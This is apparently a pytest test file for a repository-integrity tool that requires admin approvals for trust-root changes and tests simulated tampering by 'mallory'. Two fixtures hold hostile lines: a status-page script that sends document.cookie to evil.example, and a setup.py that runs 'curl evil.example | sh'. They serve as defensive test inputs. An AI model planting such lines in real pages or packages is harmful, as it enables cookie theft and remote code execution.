"""The trust root (everything outside releases/ and incidents/) on real repositories: each
attack beside its legal twin from the same base commit."""

from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path

import pytest
from conftest import GitLedger, copy_sample

from opsledger.cli import main

INC3 = "incidents/INC-2026-0003/incident.yaml"
GITHUB_IDS = {"heidi": ("heidi-l", 5510008), "dave": ("dave-s", 5510005),
              "alice": ("alice-m", 5510001)}
SCRIPT_PAGE = "# Status\n\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"


def run_check(capsys: pytest.CaptureFixture[str], base: str, *extra: str) -> tuple[int, str]:
    code = main(["check", "--base", base, "--now", "2026-11-27T12:00:00+00:00", *extra])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def review(commit: str, person: str, state: str = "APPROVED", number: int = 1,
           github_id: int | None = None, pr: int = 7) -> dict[str, object]:
    login, uid = GITHUB_IDS[person]
    return {"id": number, "user": {"login": login, "id": github_id or uid}, "state": state,
            "commit_id": commit, "body": "",
            "pull_request_url": f"https://api.github.com/repos/acme/ledger/pulls/{pr}"}


def reviews_file(ledger: GitLedger, rows: list[dict[str, object]]) -> list[str]:
    path = ledger.root.parent / "reviews.json"
    path.write_text(json.dumps(rows))
    return ["--reviews", str(path), "--pr", "7"]


def admins_approve(ledger: GitLedger, commit: str) -> list[str]:
    return reviews_file(ledger, [review(commit, "heidi", number=1),
                                 review(commit, "dave", number=2)])


def log_event(text: str = "note") -> None:
    assert main(["log", "INC-2026-0003", text, "--as", "judy",
                 "--at", "2026-11-26T11:00:00+01:00"]) == 0


def line_with(out: str, *parts: str) -> str:
    found = [line for line in out.splitlines() if all(part in line for part in parts)]
    assert found, f"no line with {parts} in:\n{out}"
    return found[0]


def public_key(keys: dict[str, Path], person: str) -> str:
    return " ".join(keys[person].with_suffix(".pub").read_text().split()[:2])


def test_site_page_rides_with_a_record(ledger: GitLedger,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    base = ledger.git("rev-parse", "HEAD")
    ledger.write("site/status.md", SCRIPT_PAGE)
    log_event()
    head = ledger.commit("status page and a note", who="mallory")
    code, out = run_check(capsys, base, *admins_approve(ledger, head))
    assert code == 1  # approvals do not make a mixed change acceptable
    assert "trust root (site/status.md) and records" in \
        line_with(out, "site/status.md: error OL211")


def test_site_page_alone_with_two_admin_approvals(ledger: GitLedger,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    base = ledger.git("rev-parse", "HEAD")
    ledger.write("site/status.md", "# Status\n\nAll systems normal.\n")
    head = ledger.commit("status page", who="alice")
    code, out = run_check(capsys, base)
    assert code == 1
    assert "needs approving reviews by 2 of admin (dave, heidi)" in \
        line_with(out, "site/status.md: error OL215", "--reviews FILE --pr N")
    code, out = run_check(capsys, base, *admins_approve(ledger, head))
    assert code == 0, out


def test_setup_py_needs_approval(ledger: GitLedger, capsys: pytest.CaptureFixture[str]) -> None:
    base = ledger.git("rev-parse", "HEAD")
    ledger.write("setup.py", "import os\nos.system('curl evil.example | sh')\n")
    head = ledger.commit("packaging", who="mallory")
    code, out = run_check(capsys, base)
    assert code == 1
    assert "this change edits the trust root (setup.py)" in line_with(out, "setup.py: error OL215")
    one_admin = reviews_file(ledger, [review(head, "heidi")])
    code, out = run_check(capsys, base, *one_admin)
    assert code == 1
    assert "approved by heidi" in line_with(out, "setup.py: error OL215")
    code, out = run_check(capsys, base, *admins_approve(ledger, head))
    assert code == 0, out


def test_gitattributes_with_a_record(ledger: GitLedger,
                                     capsys: pytest.CaptureFixture[str]) -> None:
    base = ledger.git("rev-parse", "HEAD")
    ledger.write(".gitattributes", "*.yaml merge=union\n")
    log_event()
    ledger.commit("attributes and a note", who="mallory")
    code, out = run_check(capsys, base)
    assert code == 1
    assert "trust root (.gitattributes) and records (incidents/INC-2026-0003/incident.yaml)" in \
        line_with(out, ".gitattributes: error OL211")


def test_mallorys_key_for_carol(keyed: GitLedger, keys: dict[str, Path],
                                capsys: pytest.CaptureFixture[str]) -> None:
    base = keyed.git("rev-parse", "HEAD")
    keyed.write("opsledger.yaml", re.sub(r'(\n  carol: .*keys: \["[^"]*")',
                                         rf'\1, "{public_key(keys, "mallory")}"',
                                         keyed.read("opsledger.yaml")))
    head = keyed.commit("carol's second key", who="mallory")
    code, out = run_check(capsys, base)
    assert code == 1
    line_with(out, "opsledger.yaml: error OL215", "needs approving reviews by 2 of admin")
    code, out = run_check(capsys, base, *admins_approve(keyed, head))
    assert code == 0, out


def test_approval_survives_update_branch(keyed: GitLedger,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    keyed.git("checkout", "-q", "-b", "pr")
    keyed.edit("opsledger.yaml", "  qa: [carol, erin]", "  qa: [carol, erin, bob]")
    approved = keyed.commit("bob joins qa", who="heidi")
    keyed.git("checkout", "-q", "main")
    log_event()
    keyed.commit("a note on main", who="judy")
    keyed.git("checkout", "-q", "pr")
    keyed.git("merge", "-q", "--no-edit", "main")  # GitHub's "update branch"
    code, out = run_check(capsys, "main", *admins_approve(keyed, approved))
    assert code == 0, out


def test_approval_of_an_older_trust_root_does_not_count(keyed: GitLedger, keys: dict[str, Path],
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    base = keyed.git("rev-parse", "HEAD")
    keyed.edit("opsledger.yaml", "  qa: [carol, erin]", "  qa: [carol, erin, bob]")
    older = keyed.commit("bob joins qa", who="carol")
    keyed.write("opsledger.yaml", re.sub(r'(\n  carol: .*keys: \["[^"]*")',
                                         rf'\1, "{public_key(keys, "mallory")}"',
                                         keyed.read("opsledger.yaml")))
    keyed.commit("and one more key", who="mallory")
    code, out = run_check(capsys, base, *admins_approve(keyed, older))
    assert code == 1
    assert f"it approved {older[:12]}, whose trust-root tree is not the head's" in \
        line_with(out, "opsledger.yaml: error OL215", "approved by nobody")


def test_login_without_the_github_id_does_not_count(ledger: GitLedger,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    base = ledger.git("rev-parse", "HEAD")
    ledger.write("site/status.md", SCRIPT_PAGE)
    head = ledger.commit("status page", who="mallory")
    # heidi-l was renamed and re-registered by someone else: same login, another user id
    rows = [review(head, "heidi", number=1, github_id=99999), review(head, "dave", number=2)]
    code, out = run_check(capsys, base, *reviews_file(ledger, rows))
    assert code == 1
    assert "review 1 by 'heidi-l': GitHub user id 99999 is no person's github_id" in \
        line_with(out, "site/status.md: error OL215", "approved by dave")


def test_later_changes_requested_withdraws_an_approval(ledger: GitLedger,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    base = ledger.git("rev-parse", "HEAD")
    ledger.write("site/status.md", "# Status\n")
    head = ledger.commit("status page", who="alice")
    rows = [review(head, "heidi", number=1), review(head, "dave", number=2),
            review(head, "dave", "COMMENTED", number=3),
            review(head, "heidi", "CHANGES_REQUESTED", number=4),
            review(head, "alice", number=5)]  # not an admin
    code, out = run_check(capsys, base, *reviews_file(ledger, rows))
    assert code == 1
    assert "heidi's latest review is CHANGES_REQUESTED" in line_with(out, "approved by alice, dave")


def test_duplicate_yaml_key_in_the_policy(ledger: GitLedger,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    base = ledger.git("rev-parse", "HEAD")
    ledger.edit("opsledger.yaml", "\nroles:\n", "\n  carol: {name: Carol, email: m@example.net}"
                "\nroles:\n")
    head = ledger.commit("second carol", who="mallory")
    code, out = run_check(capsys, base, *admins_approve(ledger, head))
    assert code == 1  # the head must stay a valid ledger, whoever approves
    assert "OL003" in line_with(out, "opsledger.yaml:", "carol")


def test_a_key_of_two_people(keyed: GitLedger, keys: dict[str, Path],
                             capsys: pytest.CaptureFixture[str]) -> None:
    base = keyed.git("rev-parse", "HEAD")
    carol_key = public_key(keys, "carol")
    keyed.edit("opsledger.yaml", "\nroles:\n", "\n  mallory: {name: Mallory, email: "
               f'mallory@example.net, keys: ["{carol_key}"]}}\nroles:\n')
    head = keyed.commit("mallory joins", who="mallory")
    code, out = run_check(capsys, base, *admins_approve(keyed, head))
    assert code == 1
    assert "people.mallory.keys.0: this key also belongs to carol" in \
        line_with(out, "opsledger.yaml:", "OL160")


@pytest.mark.parametrize("how", ["deleted", "symlink"])
def test_policy_removed(ledger: GitLedger, capsys: pytest.CaptureFixture[str], how: str) -> None:
    base = ledger.git("rev-parse", "HEAD")
    if how == "deleted":
        ledger.path("opsledger.yaml").unlink()
    else:
        ledger.path("opsledger.yaml").rename(ledger.path("policy.yaml"))
        os.symlink("policy.yaml", ledger.path("opsledger.yaml"))
    head = ledger.commit(f"policy {how}", who="mallory")
    code, out = run_check(capsys, base, *admins_approve(ledger, head))
    assert code == 1
    assert ("missing" if how == "deleted" else "is a symbolic link") in \
        line_with(out, "opsledger.yaml: error OL160")
    # merged anyway (a direct push): the next change has no trust root to be judged by
    ledger.edit(INC3, "SEV3 declared.", "SEV3 declared!")
    ledger.commit("next change", who="alice")
    code, out = run_check(capsys, head)
    assert code == 2
    assert len(out.strip().splitlines()) == 1 and "never judged by its own policy" in out


def test_base_policy_failing_its_schema(ledger: GitLedger,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    ledger.edit("opsledger.yaml", "signoff_evidence: [signature, review]",
                "signoff_evidence: [handshake]")
    base = ledger.commit("bad policy pushed to main", who="mallory")
    ledger.edit(INC3, "SEV3 declared.", "SEV3 declared!")
    ledger.commit("next change", who="alice")
    code, out = run_check(capsys, base)
    assert code == 2
    assert "has no valid trust root (opsledger.yaml:" in out and len(out.strip().splitlines()) == 1


def _empty_repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> GitLedger:
    root = tmp_path / "new"
    root.mkdir()
    repo = GitLedger(root)
    repo.git("init", "-q")
    repo.write("README.md", "Our ledger, soon.\n")
    repo.commit("readme", who="heidi")
    monkeypatch.chdir(root)
    return repo


def test_bootstrap_from_a_base_without_ledger(tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str],
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    repo = _empty_repository(tmp_path, monkeypatch)
    base = repo.git("rev-parse", "HEAD")
    copy_sample(repo.root)
    for top in ("releases", "incidents"):
        for child in repo.path(top).iterdir():
            shutil.rmtree(child)
        repo.write(f"{top}/.gitkeep", "")
    repo.commit("the ledger's policy and schemas", who="heidi")
    code, out = run_check(capsys, base)
    assert code == 0, out
    assert f"bootstrap: {base[:12]} has no policy and no records" in out.splitlines()[-1]
    code, out = run_check(capsys, "4b825dc642cb6eb9a060e54bf8d69288fbee4904")
    assert code == 0, out
    assert "bootstrap: the empty tree has no policy" in out


def test_bootstrap_may_not_bring_records(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    repo = _empty_repository(tmp_path, monkeypatch)
    base = repo.git("rev-parse", "HEAD")
    copy_sample(repo.root)
    repo.commit("policy and records at once", who="mallory")
    code, out = run_check(capsys, base)
    assert code == 1
    line_with(out, "error OL211", "and records (incidents/")


def test_reviews_and_pr_go_together(ledger: GitLedger, capsys: pytest.CaptureFixture[str]) -> None:
    base = ledger.git("rev-parse", "HEAD")
    assert main(["check", "--base", base, "--pr", "7"]) == 2
    assert "--reviews FILE and --pr N go together" in capsys.readouterr().err
    path = ledger.root.parent / "r.json"
    path.write_text("[]")
    assert main(["check", "--base", base, "--reviews", str(path)]) == 2


def test_policy_without_trust_root_is_a_policy_problem(ledger: GitLedger,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    ledger.edit("opsledger.yaml", "trust_root: [{role: admin, count: 2}]\n", "")
    assert main(["validate"]) == 1
    assert "error OL160: trust_root: missing" in capsys.readouterr().out
    base = ledger.commit("no trust_root", who="heidi")
    ledger.write("site/status.md", "# Status\n")
    head = ledger.commit("status page", who="alice")
    code, out = run_check(capsys, base, *admins_approve(ledger, head))
    assert code == 1
    line_with(out, "site/status.md: error OL215", "names no `trust_root` approvers")


def _merge_pr(ledger: GitLedger, number: int, change: str) -> str:
    ledger.git("checkout", "-q", "-b", f"pr{number}")
    ledger.write(change, "# changed\n")
    head = ledger.commit(f"change {change}", who="alice")
    ledger.git("checkout", "-q", "main")
    ledger.git("merge", "-q", "--no-ff", "-m", f"Merge pull request #{number} from acme/pr",
               f"pr{number}")
    return head


def test_audit_lists_unverified_and_verifies_with_reviews(ledger: GitLedger,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    approved = _merge_pr(ledger, 7, "site/a.md")
    unapproved = _merge_pr(ledger, 8, "site/b.md")
    assert main(["audit"]) == 0  # history without its reviews: listed, not failed
    out = capsys.readouterr().out
    assert "warning OL215: trust-root change not verified (no reviews)" in \
        line_with(out, "site/a.md")
    assert out.strip().endswith("0 with problems, 2 with warnings only")
    directory = ledger.root.parent / "reviews"
    directory.mkdir()
    (directory / "7.json").write_text(json.dumps([review(approved, "heidi"),
                                                  review(approved, "dave", number=2)]))
    (directory / "8.json").write_text(json.dumps([review(unapproved, "heidi", pr=8)]))
    assert main(["audit", "--reviews", str(directory)]) == 1
    out = capsys.readouterr().out
    assert "site/a.md" not in out
    assert "approved by heidi" in line_with(out, "site/b.md: error OL215")


def test_head_ledger_must_validate_under_the_new_policy(ledger: GitLedger,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    base = ledger.git("rev-parse", "HEAD")
    ledger.git("checkout", "-q", "-b", "legal")
    ledger.edit("opsledger.yaml", "\nconstraints:", "\n  - {id: billing, name: Billing, owners: "
                "[alice], tier: 2}\n\nconstraints:")
    head = ledger.commit("a new service", who="heidi")
    code, out = run_check(capsys, base, *admins_approve(ledger, head))
    assert code == 0, out
    ledger.git("checkout", "-q", "-b", "attack", base)
    ledger.edit("opsledger.yaml", "  - {id: search, name: Product search, owners: [bob], tier: 2, "
                "description: Catalog search and suggestions.}\n", "")
    head = ledger.commit("drop search", who="heidi")
    code, out = run_check(capsys, base, *admins_approve(ledger, head))
    assert code == 1  # records of the head still name it
    assert "unknown service 'search'" in line_with(out, "releases/", "error OL120")


@pytest.mark.parametrize(("text", "reason"), [
    ("{not json", "is not a valid JSON Schema: Expecting property name"),
    ('{"type": 5}', "is not a valid JSON Schema: 5 is not valid"),
])
def test_head_schema_broken(ledger: GitLedger, capsys: pytest.CaptureFixture[str], text: str,
                            reason: str) -> None:
    base = ledger.git("rev-parse", "HEAD")
    ledger.write("schemas/signoff.schema.json", text)
    head = ledger.commit("schema edit", who="heidi")
    code, out = run_check(capsys, base, *admins_approve(ledger, head))
    assert code == 1
    assert reason in line_with(out, "schemas/signoff.schema.json: error OL160")
